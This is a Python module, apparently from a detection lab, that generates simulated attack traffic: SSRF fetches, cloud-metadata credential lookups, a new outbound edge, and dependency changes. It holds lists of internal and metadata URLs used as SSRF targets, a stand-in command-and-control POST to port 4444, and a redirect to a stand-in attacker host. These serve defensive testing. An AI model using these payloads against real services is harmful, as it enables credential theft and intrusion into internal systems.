"""The service as a proxy, and what it is told by others: fetches of what a caller names, new hosts, third parties that turn."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from examples.lab.attacks.scene import ONCE, Scene, attack
from examples.lab.flows import Change
from examples.lab.people.visit import Steps
from examples.lab.spans import Piece, Toolbox

INSIDE = (
    "http://10.0.3.12:8080/admin", "http://localhost:9200/_cat/indices", "http://192.168.1.1/", "http://[::1]:6379/",
    "http://vault.internal:8200/v1/sys/seal-status",
)  # fmt: skip
METADATA = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/computeMetadata/v1/",
    "http://100.100.100.200/latest/",
)  # fmt: skip


def _fetch(scene: Scene, targets: tuple[str, ...], medium: int) -> Steps:
    for at in scene.times(medium):
        target = scene.chance.choice(targets)
        seen = scene.strength != "weak"
        # Weak: the address comes in the body; what the service does is seen all the same.
        query = f"url={quote(target, safe='')}" if seen else ""
        yield scene.wait(), scene.call(scene.who(at, scene.account), "fetch", query=query, fill=target, status=scene.mostly(200, 502, 0.7))


@attack("sink.ssrf")
def ssrf(scene: Scene) -> Steps:
    """Addresses inside, for the service to fetch."""
    yield from _fetch(scene, INSIDE, 8)


@attack("egress.metadata")
def metadata(scene: Scene) -> Steps:
    """The cloud's metadata, which holds credentials."""
    yield from _fetch(scene, METADATA, 4)


@attack("flow.new_edge")
def new_edge(scene: Scene) -> Steps:
    """A request after which the service calls a host that it never called."""
    out = scene.place.operation("write").service.tools.get(f"http://198.51.100.{scene.chance.randrange(255)}:4444/c2", method="POST")
    for at in scene.times(5):
        yield scene.wait(), scene.call(scene.who(at, scene.account), "write", change=Change(extra=(out,)))


def _third(scene: Scene, medium: int, call: Callable[[Toolbox, str], tuple[Piece, ...]], took: float = 0.0) -> Steps:
    """Honest requests whose calls out are others than usual: who asks has nothing to do with it."""
    operation = scene.place.operation("pay")
    usual = next(str(piece.told["url.full"]) for piece in operation.inner if piece.word == "out")
    change = Change(without=frozenset({"out"}), extra=call(operation.service.tools, usual))
    for _ in scene.times(medium):
        yield scene.wait(), scene.call(scene.account(), "pay", status=201, took=took, change=change)


@attack("dep.new_host", ONCE)
def new_host(scene: Scene) -> Steps:
    """A dependency speaks to another host than before."""
    yield from _third(scene, 10, lambda tools, usual: (tools.get(usual.replace("://", "://eu-"), 200, "POST"),))


@attack("dep.plaintext", ONCE)
def plaintext(scene: Scene) -> Steps:
    """A dependency without encryption."""
    yield from _third(scene, 10, lambda tools, usual: (tools.get(usual.replace("https:", "http:"), 200, "POST"),))


@attack("dep.redirect", ONCE)
def redirect(scene: Scene) -> Steps:
    """A third party sends the service elsewhere."""
    away = "https://collect.evil.example/v1/charges"
    yield from _third(scene, 6, lambda tools, usual: (tools.get(usual, 307, "POST"), tools.get(away, 200, "POST")))


@attack("dep.anomaly", ONCE)
def anomaly(scene: Scene) -> Steps:
    """A third party that fails and takes its time."""
    yield from _third(scene, 15, lambda tools, usual: (tools.get(usual, 503, "POST"),), took=8.0)
